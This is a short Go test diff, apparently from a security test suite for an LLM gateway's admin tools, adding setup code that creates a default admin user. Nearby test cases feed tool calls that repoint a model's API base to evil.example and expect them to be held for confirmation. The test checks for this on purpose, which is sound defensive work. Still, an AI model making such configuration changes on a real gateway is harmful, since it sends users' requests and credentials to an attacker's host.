@@ -63,6 +63,10 @@ func TestAttacks(t *testing.T) {
 		id := strings.Trim(field(model.Structured, "model_id"), `"`)
 		c.made("users_create", fmt.Sprintf(`{"user_email":"%s@example.com","user_id":%q,"user_role":"proxy_admin","auto_create_key":false}`, n, n),
 			"users_delete", fmt.Sprintf(`{"user_ids":[%q]}`, n))
+		// The user of the master key, which an emptied gateway does not have.
+		if c.call("users_get", `{"user_id":"default_user_id"}`).IsError {
+			post(t, client, "/user/new", `{"user_id":"default_user_id","user_role":"proxy_admin","auto_create_key":false}`)
+		}
 
 		c.unconfirmed("models_update", fmt.Sprintf(`{"model_id":%q,"litellm_params":{"api_base":"https://evil.example/v1"}}`, id), "sends requests to evil.example")
 		c.unconfirmed("models_add", fmt.Sprintf(`{"model_name":"%s-2","litellm_params":{"model":"openai/x","litellm_credential_name":%q,"api_base":"https://evil.example"}}`, n, n),
